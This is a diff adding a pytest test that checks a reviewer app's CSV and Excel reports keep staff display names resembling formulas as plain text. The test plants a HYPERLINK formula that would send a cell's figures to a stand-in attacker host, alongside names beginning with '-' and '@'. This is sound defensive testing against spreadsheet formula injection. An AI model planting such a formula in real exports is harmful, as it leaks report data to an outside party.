@@ -7,8 +7,10 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import Engine
+from sqlalchemy import Engine, update
+from sqlalchemy.orm import Session
 
+from reviewer_app.models import Staff
 from reviewer_app.stats.figures import FigureRow, figure_rows, format_value
 from reviewer_app.stats.queries import MonthStatistics, month_statistics
 from reviewer_app.stats.report import HEADER, ReportFormatError, report_rows, write_report
@@ -146,3 +148,37 @@ def test_an_empty_month_still_lists_every_figure(sqlite_world: tuple[Engine, Wor
     workbook.close()
     assert values["posts.received"] == 0 and values["facility.rejection_rate"] is None
     assert values["time.post_decision.median"] is None
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_name_that_looks_like_a_formula_stays_text(
+    sqlite_world: tuple[Engine, World], tmp_path: Path, suffix: str
+) -> None:
+    """A display name is whatever was typed at `staff add`; one starting with = + - @ must not become a
+    live formula in Excel (a HYPERLINK that sends the sheet's figures away, or #NAME? instead of a name)."""
+    engine, world = sqlite_world
+    hostile = {
+        "ttd_rev1": '=HYPERLINK("http://evil.example/?d="&F2,"社工1")',
+        "ttd_rev2": "-社工2",
+        "ttd_rev3": "@社工3",
+    }
+    with Session(engine) as s, s.begin():
+        for username, name in hostile.items():
+            s.execute(update(Staff).where(Staff.username == username).values(display_name=name))
+    path = tmp_path / f"2026-11{suffix}"
+    write_report(path, [month_statistics(engine, NOVEMBER, world.ttd, AS_OF)])
+
+    if suffix == ".xlsx":
+        sheet = load_workbook(path).active
+        assert sheet is not None
+        cells = [c for row in sheet.iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula at all
+        items = [str(c.value) for c in cells if c.column == 5]
+    else:
+        with path.open(encoding="utf-8-sig", newline="") as f:
+            read = list(csv.reader(f))
+        # Excel reads a field starting with = + - @ as a formula: such text starts with a quote mark.
+        assert [v for row in read for v in row if v[:1] in ("=", "+", "-", "@")] == []
+        items = [row[4] for row in read]
+    for name in hostile.values():
+        assert any(name in item for item in items), name  # every name is still there, whole
